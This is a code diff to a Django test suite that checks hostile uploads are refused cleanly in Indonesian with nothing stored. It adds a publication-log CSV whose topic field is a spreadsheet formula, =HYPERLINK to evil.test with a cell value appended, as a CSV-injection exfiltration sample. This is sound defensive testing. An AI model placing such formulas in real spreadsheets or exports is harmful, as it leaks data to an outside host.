@@ -24,6 +24,7 @@ from django.urls import reverse
 from django.utils import translation
 
 from governance.models import AuditEntry, Membership, Publication, RuleCategory
+from governance.tests.factories import OfficialAccountFactory
 from members.models import GroupMembership, ImportJob, StaffMember
 from reports.models import AssessmentPeriod
 from reports.models import Evidence as ReportEvidence
@@ -101,6 +102,16 @@ def formula_csv() -> bytes:
             )
 
 
+def formula_posts_csv() -> bytes:
+    """The publication log's own columns, a real account, and a topic that is a formula."""
+    from governance.imports import SAMPLE_HEADER
+
+    day = (datetime.date.today() - datetime.timedelta(days=2)).strftime("%d/%m/%Y")
+    row = [day, "09.30", ACCOUNT, "", '=HYPERLINK("http://evil.test/?c="&A1,"Pelayanan")', "ya", "ya", "ya", "ya",
+           "ya", ""]
+    return (";".join(SAMPLE_HEADER) + "\n" + ";".join(row) + "\n").encode()
+
+
 def wide_csv() -> bytes:
     return (",".join(f"kolom{n}" for n in range(10_000)) + "\n" + ",".join("1" for _ in range(10_000)) + "\n").encode()
 
@@ -139,12 +150,14 @@ def hostile_files() -> list[Bad]:
         Bad("xlsx of junk", "pegawai.xlsx", xlsx_of_junk(),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
         Bad("formula csv", "pegawai.csv", formula_csv(), "text/csv"),
+        Bad("formula csv of posts", "publikasi.csv", formula_posts_csv(), "text/csv"),
         Bad("10k columns csv", "pegawai.csv", wide_csv(), "text/csv"),
         Bad("double extension", "bukti.jpg.exe", HTML, "image/jpeg"),
         Bad("wrong content type", "bukti.png", JS, "image/png"),
     ]
 
 
+ACCOUNT = "Instagram Resmi Instansi A"
 HOSTILE = hostile_files()
 INDONESIAN = ("berkas", "tidak", "bukan", "unggah", "kosong", "rusak", "gambar", "pilih", "ukuran", "terlalu",
               "kolom", "rumus", "ekspor", "obrolan", "baris", "simpan")
@@ -178,6 +191,7 @@ def place(side_a, unscoped, settings, tmp_path):
             staff_for(user, inst)
     side.channel = group(inst, name="Grup Guru dan Pegawai")
     side.budi = StaffMemberFactory(institution=inst, full_name="Budi Santoso, S.Pd.", position="Guru IPA")
+    OfficialAccountFactory(institution=inst, name=ACCOUNT)
     join(side.channel, side.budi)
     from sanctions.tests.factories import file_report
 
@@ -257,7 +271,7 @@ class Endpoint:
     data: callable  # place -> form fields besides the file
     field: str
     follow: bool = False
-    kept: tuple = ()  # form fields whose typed value must still be on the page
+    kept: tuple = ()  # form fields whose typed value must still be in the form shown again
 
 
 def _url(name, place, **kwargs):
@@ -270,19 +284,19 @@ ENDPOINTS = [
                         "channel": p.channel.pk,
                         "rules": rule_ids(p.institution, RuleCategory.HOAX),
                         "description": "Budi menyebarkan kabar tidak benar tentang ujian."},
-             "evidence", kept=("Budi menyebarkan kabar tidak benar tentang ujian.",)),
+             "evidence", kept=("description", "subject_staff", "channel", "occurred_on")),
     Endpoint("evidence_add", "humas", lambda p: _url("sanctions:evidence_add", p, pk=p.report.pk), lambda p: {},
              "evidence", follow=True),
     Endpoint("chat_flag_report", "humas", lambda p: _url("sanctions:chat_flag_report", p, pk=p.flag.pk),
              lambda p: {"occurred_on": "2024-11-14", "rules": rule_ids(p.institution, RuleCategory.HOAX),
                         "description": "Pesan hoaks di grup pada pagi hari."},
-             "evidence", kept=("Pesan hoaks di grup pada pagi hari.",)),
+             "evidence", kept=("description", "occurred_on")),
     Endpoint("chat_upload", "humas", lambda p: _url("sanctions:chat_upload", p, channel_pk=p.channel.pk),
              lambda p: {}, "file"),
     Endpoint("members_import_staff", "operator", lambda p: _url("members:import_start", p),
-             lambda p: {"kind": "staff"}, "file"),
+             lambda p: {"kind": "staff"}, "file", kept=("kind",)),
     Endpoint("members_import_groups", "operator", lambda p: _url("members:import_start", p),
-             lambda p: {"kind": "groups"}, "file"),
+             lambda p: {"kind": "groups"}, "file", kept=("kind",)),
     Endpoint("publication_import", "humas", lambda p: _url("governance:publication_import", p), lambda p: {}, "file"),
     Endpoint("self_assessment_evidence", "humas",
              lambda p: _url("reports:evidence_upload", p, pk=p.entry.pk, criterion=p.criterion.pk), lambda p: {},
@@ -301,9 +315,12 @@ def test_every_hostile_file_is_refused_cleanly_and_nothing_is_stored(place, endp
         response = client.post(endpoint.url(place), data, follow=endpoint.follow)
         try:
             assert_refused_in_indonesian(response)
-            body = response.content.decode()
-            for typed in endpoint.kept[:1]:
-                assert typed in body, f"the form lost {typed!r}"
+            form = response.context.get("form") if endpoint.kept else None
+            typed = endpoint.data(place)
+            for field in endpoint.kept:
+                assert str(form[field].value()) == str(typed[field]), f"the form lost {field}"
+            if "description" in endpoint.kept:
+                assert typed["description"] in response.content.decode()
             assert snapshot(place) == before, "something was stored"
         except AssertionError as error:
             failures.append(f"{bad.label}: {error}")
